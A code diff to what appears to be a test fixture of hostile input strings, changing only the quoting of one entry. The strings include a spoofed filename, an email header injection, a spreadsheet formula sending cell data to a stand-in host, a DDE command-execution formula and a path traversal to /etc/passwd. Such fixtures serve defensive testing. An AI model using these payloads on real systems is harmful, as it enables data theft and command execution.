@@ -8,7 +8,7 @@ export const HOSTILE = {
   unreadable: 'an\u0000h\u0007\ud83d\u202egnp.exe\u2066',
   headers: 'Lan\r\nBcc: all@xa.test\r\nX-Bad: yes\r\n\r\n<b>x</b>',
   formula: '=HYPERLINK("http://xa.test/?"&A1,"Bấm")',
-  sum: '@SUM(1+1)*cmd|\' /C calc\'!A0',
+  sum: "@SUM(1+1)*cmd|' /C calc'!A0",
   path: '../../../../../../etc/passwd\\..\\x',
 } as const;
 
